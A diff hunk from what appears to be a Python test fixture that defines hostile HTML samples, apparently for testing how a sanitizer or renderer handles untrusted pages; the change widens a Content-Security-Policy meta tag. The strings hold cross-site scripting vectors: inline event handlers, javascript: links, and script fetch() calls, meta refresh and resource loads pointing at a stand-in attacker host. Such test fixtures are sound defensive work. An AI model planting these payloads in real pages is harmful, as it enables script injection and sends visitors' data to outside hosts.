@@ -203,7 +203,7 @@ class Sample:
 EVIL = "http://evil.example.net"
 HOSTILE_STORY = f'<p onclick="alert(1)">Some hostile words.<script>fetch("{EVIL}/s")</script><img src="{EVIL}/i.png" onerror="alert(2)"><a href="javascript:alert(3)">x</a><iframe src="{EVIL}/f"></iframe></p>'
 HOSTILE_PAGE = f"""<!doctype html><html><head><title>hostile</title><base href="{EVIL}/">
-<meta http-equiv="refresh" content="0; url={EVIL}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">
+<meta http-equiv="refresh" content="0; url={EVIL}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data:">
 <script>document.title = "ran"; fetch("{EVIL}/fetch"); navigator.serviceWorker && navigator.serviceWorker.register("/sw.js")</script>
 <script src="{EVIL}/script.js"></script><link rel="stylesheet" href="{EVIL}/style.css"><link rel="preload" as="image" href="{EVIL}/preload.png">
 <link rel="prefetch" href="{EVIL}/prefetch"><link rel="dns-prefetch" href="{EVIL}"><link rel="manifest" href="{EVIL}/manifest">
